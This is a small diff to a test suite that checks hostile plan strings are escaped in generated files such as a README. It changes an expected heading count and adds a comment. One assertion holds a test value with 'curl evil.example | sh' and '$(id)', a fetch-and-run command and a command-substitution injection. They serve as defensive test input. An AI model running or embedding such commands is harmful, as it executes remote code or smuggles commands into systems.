@@ -462,7 +462,7 @@ describe("hostile plan strings are escaped for each file", () => {
     }
     const readme = file(files, "README.md");
     expect(readme).toContain("| cost | $1.60/h (`price 'curl evil.example \\| sh' $(id)");
-    expect(readme.split("\n").filter((l) => l.startsWith("#")).length).toBe(4);
+    expect(readme.split("\n").filter((l) => l.startsWith("#")).length).toBe(5); // title, The plan, Start it, Monitoring, Files;
     for (const f of files) {
       for (const line of f.content.split("\n").filter((l) => l.startsWith("# "))) {
         expect(line, `${f.path}: ${line}`).not.toMatch(/\r/);
